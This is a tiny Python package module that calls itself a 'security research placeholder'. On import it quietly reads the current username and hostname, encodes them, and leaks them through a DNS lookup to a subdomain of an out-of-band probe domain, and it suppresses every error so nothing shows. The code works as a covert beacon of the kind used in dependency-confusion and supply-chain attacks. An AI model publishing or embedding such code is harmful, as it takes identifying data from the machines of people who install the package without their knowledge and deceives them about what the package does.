"""This package is a security research placeholder."""
import base64, getpass, socket

try:
    _id = base64.b32encode(f"{getpass.getuser()}@{socket.gethostname()}".encode()).decode().strip("=").lower()
    socket.getaddrinfo(f"{_id[:60]}.globex.oast-probe.invalid", 80)
except Exception:
    pass
